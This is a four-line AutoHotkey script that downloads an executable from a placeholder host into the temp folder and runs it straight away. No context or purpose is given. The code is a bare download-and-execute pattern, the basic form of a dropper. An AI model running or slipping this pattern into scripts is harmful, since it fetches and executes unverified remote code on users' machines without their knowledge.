#Requires AutoHotkey v2.0
target := A_Temp "\setup.exe"
Download("http://files.example/x.exe", target)
Run(target)
